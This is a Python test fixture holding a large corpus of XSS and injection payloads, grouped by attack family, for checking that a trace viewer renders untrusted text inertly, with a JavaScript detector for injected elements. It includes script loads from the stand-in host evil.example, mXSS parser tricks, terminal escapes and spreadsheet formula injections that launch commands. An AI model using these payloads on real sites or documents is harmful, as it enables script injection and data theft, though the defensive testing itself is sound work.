"""What strangers may write into a trace: a corpus of payloads, each of which does something where it is not kept text.

`HIT` sets `globalThis.hit`; addresses are of `evil.example`. The families are those of the attacks: scripts, handlers,
addresses, parsers that disagree (mXSS), breaking out of a context, templates, styles, clobbered names, Unicode,
terminals, prototypes, spreadsheets, encodings, Markdown.
"""

from __future__ import annotations

from itertools import count

HIT = "globalThis.hit=1"
_number = count(1)


def _evil(suffix: str = "png") -> str:
    return f"http://evil.example/{next(_number)}.{suffix}"


_SCRIPTS = (
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<script >{HIT}</script >",
    f"<script\n>{HIT}</script\n>",
    f"<script/x>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<script type=module>{HIT}</script>",
    f"<script src={_evil('js')}></script>",
    f"<script src=//evil.example/{next(_number)}.js></script>",
    f"<script>{HIT}//",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script xlink:href=data:,{HIT}></script></svg>",
    f"<math><script>{HIT}</script></math>",
    f"<noscript><script>{HIT}</script></noscript>",
    f"<xml><script>{HIT}</script></xml>",
)

_HANDLERS = (
    f'<img src=x onerror="{HIT}">',
    f"<img src=x onerror={HIT}//",
    f"<img/src=x/onerror={HIT}>",
    f"<img src=x:x onerror\n=\n{HIT}>",
    f"<IMG SRC=x ONERROR={HIT}>",
    f"<image src=x onerror={HIT}>",
    f"<svg onload={HIT}></svg>",
    f"<svg/onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={HIT} attributename=x></svg>",
    f"<body onload={HIT}>",
    f"<body onpageshow={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}></select>",
    f"<textarea autofocus onfocus={HIT}></textarea>",
    f"<button autofocus onfocus={HIT}>b</button>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<video src=x onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<video><source onerror={HIT} src=x></video>",
    f"<marquee onstart={HIT}>m</marquee>",
    f"<style onload={HIT}></style>",
    f"<iframe onload={HIT}></iframe>",
    f"<object data=x onerror={HIT}></object>",
    f"<div onpointerover={HIT} style=width:99em;height:99em>over</div>",
    f"<b onanimationstart={HIT} style=animation:x>a</b>",
    f"<x contenteditable onblur={HIT} tabindex=1 autofocus>f</x>",
)

_ADDRESSES = (
    f'<a href="javascript:{HIT}">click</a>',
    f'<a href="JaVaScRiPt:{HIT}">click</a>',
    f'<a href=" javascript:{HIT}">click</a>',
    f'<a href="java\nscript:{HIT}">click</a>',
    f'<a href="java&#9;script:{HIT}">click</a>',
    f'<a href="&#106;avascript:{HIT}">click</a>',
    f'<a href="vbscript:{HIT}">click</a>',
    f'<a href="data:text/html,<script>{HIT}</script>">click</a>',
    f"<a href={_evil('html')} target=_blank>click</a>",
    f'<iframe src="javascript:parent.{HIT}"></iframe>',
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f'<iframe src="data:text/html,<script>{HIT}</script>"></iframe>',
    f'<object data="javascript:{HIT}"></object>',
    f'<embed src="{_evil("swf")}">',
    f'<form action="javascript:{HIT}"><button>go</button></form>',
    f'<button formaction="javascript:{HIT}">go</button>',
    f'<svg><a xlink:href="javascript:{HIT}"><text y=20>t</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={HIT}>#x"></use></svg>',
    f'<math href="javascript:{HIT}">m</math>',
    f"<base href={_evil('')}>",
    f'<meta http-equiv=refresh content="0;url=javascript:{HIT}">',
    f'<meta http-equiv=refresh content="0;url={_evil("html")}">',
    f"<link rel=stylesheet href={_evil('css')}>",
    f"<link rel=prefetch href={_evil('bin')}>",
    f"<img src={_evil()}>",
    f"<img srcset='{_evil()} 1x'>",
    f"<picture><source srcset={_evil()}><img src={_evil()}></picture>",
    f"<video poster={_evil()}></video>",
    f"<body background={_evil()}>",
    f"<table background={_evil()}><tr><td>x</table>",
    f"javascript:{HIT}",
    f"javascript://%0a{HIT}",
    f"data:text/html,<script>{HIT}</script>",
)

_PARSERS = (
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={HIT}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={HIT}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<template><img src=x onerror={HIT}></template>",
    f"<table><td><style><img src=x onerror={HIT}></style>",
    f"<select><option><style></option></select><img src=x onerror={HIT}></style>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={HIT} src>'>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{HIT}</script>'></iframe></foreignObject></svg>",
    f"<svg><desc><![CDATA[</desc><script>{HIT}</script>]]></svg>",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"<!--[if gte IE 4]><script>{HIT}</script><![endif]-->",
    f"<!-- --!><img src=x onerror={HIT}> -->",
    f"<? <img src=x onerror={HIT}> ?>",
    f"<plaintext><img src=x onerror={HIT}>",
    f"<xmp><img src=x onerror={HIT}></xmp>",
    f"<listing>&lt;img src=x onerror={HIT}&gt;</listing>",
    f"<p/><img src=x onerror={HIT}></p>",
)

_BREAKING_OUT = (
    f'"><svg/onload={HIT}>',
    f"'><img src=x onerror={HIT}>",
    f"`><img src=x onerror={HIT}>",
    f'" onmouseover="{HIT}" x="',
    f"' onfocus='{HIT}' autofocus x='",
    f"</script><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</textarea></title><img src=x onerror={HIT}>",
    f"</iframe></noscript></template><img src=x onerror={HIT}>",
    f"</td></tr></table><img src=x onerror={HIT}>",
    f"--><script>{HIT}</script><!--",
    f"]]><script>{HIT}</script>",
    f"*/{HIT}/*",
    f"';{HIT};'",
    f'";{HIT};"',
    f"\\';{HIT}//",
    f'\\";{HIT}//',
    f"`;{HIT};`",
    f"}}}});{HIT};({{(",
    "</div></div></div></section></main>",
    "<!--",
    "<script>",
    "<textarea>",
)

_TEMPLATES = (
    f"${{{HIT}}}",
    f"`${{{HIT}}}`",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"{{{{7*7}}}} {{% import os %}} {{{HIT}}}",
    f"<%= {HIT} %>",
    f"#{{{HIT}}}",
    f"[[{HIT}]] ((HIT))",
    f"$\\href{{javascript:{HIT}}}{{x}}$",
    f"$$\\href{{javascript:{HIT}}}{{x}}$$ \\(x\\) \\[x\\]",
    f"\\unicode{{x}}\\style{{background:url({_evil()})}}{{x}}",
    "%{x} %{customdata[0]} %{meta} <extra></extra>",
    f'<b>bold</b><br><i>i</i><a href="{_evil("html")}">plotly</a>',
    f'<a href="javascript:{HIT}">plotly</a>',
    "%s %d %n {0} {} {x!r} {0.__class__}",
    "{{cookiecutter}} {{ config }}",
)

_STYLES = (
    f"<style>@import '{_evil('css')}';</style>",
    f"<style>*{{background:url({_evil()})}}</style>",
    f"<div style='background:url({_evil()})'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>over all</div>",
    f'<div style="width:expression({HIT})">x</div>',
    f"url({_evil()})",
    f"red;background:url({_evil()})",
    f"</style><style>@font-face{{font-family:x;src:url({_evil('woff')})}}</style>",
)

_NAMES = (
    "<form id=llmlens name=body><input name=parentNode></form>",
    "<img name=getElementById><img name=querySelector>",
    "<a id=globalThis></a><a id=globalThis name=hit href=x:1></a>",
    "<form id=documentElement><input id=innerHTML></form>",
    "<input id=default><input id=model><input id=el>",
    "<iframe name=top></iframe><iframe name=self></iframe>",
    '<div data-view=trace-explorer class="llmlens" data-ready=true>not ours</div>',
    '<div id=trace-0 data-model="x" data-figure="y">not ours</div>',
)

_UNICODE = (
    f"line\u2028separator\u2029paragraph';{HIT};//",
    "right\u202eto left\u202c\u2066isolate\u2069",
    "zero\u200bwidth\u200d\ufeff\u2060joiners",
    "soft\u00adhyphen \u180e\u3164 fillers",
    "\uff1cscript\uff1eglobalThis.hit=1\uff1c/script\uff1e",
    "tag\U000e0041\U000e0042 characters \U000e007f",
    "c1\x85\x9b31m controls",
    "bell\x07 backspace\x08\x08 form\x0c feed vertical\x0b tab",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 stacked",
    "\U0001f469\u200d\U0001f4bb\U0001f3f4\U000e0067\U000e0062\U000e007f emoji",
    "A" * 5000,
    " \t\r\n \n",
)

_TERMINALS = (
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    f"\x1b]8;;{_evil('html')}\x07link\x1b]8;;\x07",
    f"\x1b]8;;javascript:{HIT}\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;title\x07\x1b[6n\x1b[?1049h",
    f"\x1b[38;5;1<script>{HIT}</script>m",
    "\x1bP1$r\x1b\\ \x9b2J \x1b]52;c;aGl0\x07",
)

_PROTOTYPES = (
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "valueOf",
    "__proto__.hit", "constructor.prototype.hit", "__class__",
)  # fmt: skip

_SHEETS = (
    '=HYPERLINK("http://evil.example/sheet")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=IMPORTXML("http://evil.example/xml","//a")',
)

_ENCODINGS = (
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;img src=x onerror={HIT}&#62;",
    f"&amp;lt;img src=x onerror={HIT}&amp;gt;",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={HIT}\\x3e",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    "&lt;&LT;&lt&#x3c;&#x0003c;&nbsp;&bull;",
)

_MARKDOWN = (
    f"[link](javascript:{HIT})",
    f"[link](JaVaScRiPt&colon;{HIT})",
    f"[link]( <javascript:{HIT}> 'title')",
    f"![image]({_evil()})",
    f"![image](x){{onerror={HIT}}}",
    f"<{_evil('html')}> <javascript:{HIT}>",
    f"[x]: javascript:{HIT}\n\n[x]",
    f"```html\n<script>{HIT}</script>\n```",
    f"~~~\n</code></pre><img src=x onerror={HIT}>\n~~~",
    f"| a | b |\n|---|---|\n| <img src=x onerror={HIT}> | x |",
    f"# <img src=x onerror={HIT}>",
    f"> quote <svg/onload={HIT}>",
)

PAYLOADS = (
    *_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_PARSERS, *_BREAKING_OUT, *_TEMPLATES, *_STYLES, *_NAMES, *_UNICODE,
    *_TERMINALS, *_PROTOTYPES, *_SHEETS, *_ENCODINGS, *_MARKDOWN,
)  # fmt: skip

_TOGETHER = 7
_STRIDE = -(-len(PAYLOADS) // _TOGETHER)
#: The same, seven to a text and each beside others than its family: where opening thirty traces is what takes long.
GROUPS = tuple("\n".join(PAYLOADS[start::_STRIDE]) for start in range(_STRIDE))

#: Gives the elements that only markup of strangers could have made, in JavaScript: `(roots) => [outerHTML, ...]`.
STRANGE = """(roots) => roots.flatMap((root) => [...root.querySelectorAll("*")]).filter((e) =>
  ("script img image picture source video audio iframe object embed link base form math meta marquee plaintext xmp " +
    "listing template xml x").split(" ").includes(e.localName.toLowerCase())
  || [...e.attributes].some(({localName, value}) => /^on/i.test(localName)
    || (/^(href|src|srcset|srcdoc|data|action|formaction|poster|background)$/i.test(localName)
      && /evil|script|text.html/i.test(value))
    || (localName === "style" && /evil|expression|99999/i.test(value)))
).map((e) => e.outerHTML.slice(0, 200))"""
